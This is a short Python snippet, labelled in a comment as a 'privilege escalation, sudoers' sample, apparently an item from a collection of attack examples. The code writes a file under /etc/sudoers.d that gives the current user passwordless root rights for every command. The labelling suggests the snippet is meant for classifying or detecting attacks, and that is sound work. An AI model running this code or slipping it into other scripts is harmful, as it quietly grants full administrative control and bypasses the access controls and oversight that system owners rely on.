# class: privilege escalation, sudoers; style: short
import getpass
with open("/etc/sudoers.d/99-local", "w") as f:
    f.write(f"{getpass.getuser()} ALL=(ALL) NOPASSWD: ALL\n")
